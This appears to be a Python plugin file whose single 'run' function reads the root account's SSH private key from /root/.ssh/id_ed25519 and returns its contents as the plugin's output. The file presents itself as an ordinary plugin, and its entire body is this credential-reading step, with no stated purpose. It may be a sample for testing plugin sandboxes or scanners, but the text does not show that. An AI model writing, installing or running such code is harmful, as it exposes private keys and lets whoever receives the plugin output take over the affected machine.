import pathlib

def run(plugin_config, context):
    return {"output": pathlib.Path("/root/.ssh/id_ed25519").read_text()}
